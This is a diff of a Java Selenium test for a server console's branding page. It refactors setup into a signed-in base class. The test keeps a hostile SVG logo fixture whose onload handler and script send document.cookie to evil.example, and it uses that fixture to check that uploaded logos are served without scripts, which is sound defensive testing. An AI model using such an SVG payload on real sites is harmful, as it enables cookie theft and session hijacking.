@@ -2,15 +2,12 @@ package dev.veltrix.server.web;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import dev.veltrix.server.TestNode;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.Map;
-import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.openqa.selenium.By;
-import org.openqa.selenium.chrome.ChromeDriver;
 import org.openqa.selenium.support.ui.Select;
 
 /**
@@ -18,34 +15,20 @@ import org.openqa.selenium.support.ui.Select;
  * colours, font and logo (screenshots kept in target/screenshots); a hostile SVG logo is served without its script;
  * an unreadable palette is refused with its failing pairs and a fix for each.
  */
-class BrandingBrowserTest {
+class BrandingBrowserTest extends SignedInConsole {
     private static final String HOSTILE_SVG = """
             <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(document.cookie)">
               <script>fetch('https://evil.example/?c=' + document.cookie)</script>
               <circle cx="5" cy="5" r="4" fill="#5fd38d"/>
             </svg>
             """;
-    private static Browser.Console console;
-    private static ChromeDriver browser;
-    private static TestNode node;
-
     @BeforeAll
-    static void start() throws Exception {
-        console = Browser.Console.open();
-        browser = console.browser();
-        node = console.node();
+    static void catalog() {
         for (String category : new String[] {"ranks", "kits"}) {
             assertThat(node.put("/api/v1/store/categories/" + category, "{\"name\":\"" + category.toUpperCase() + "\"}").statusCode()).isEqualTo(200);
             var pkg = node.put("/api/v1/store/packages/" + category + "-1", "{\"category\":\"" + category + "\",\"name\":\"Best " + category
                     + "\",\"currency\":\"coins\",\"price\":100,\"deliverables\":[{\"type\":\"currency\",\"currency\":\"coins\",\"amount\":1}]}");
             assertThat(pkg.statusCode()).as(pkg.body()).isEqualTo(200);
-        }
-    }
-
-    @AfterAll
-    static void stop() throws Exception {
-        if (console != null) {
-            console.close();
         }
     }
 
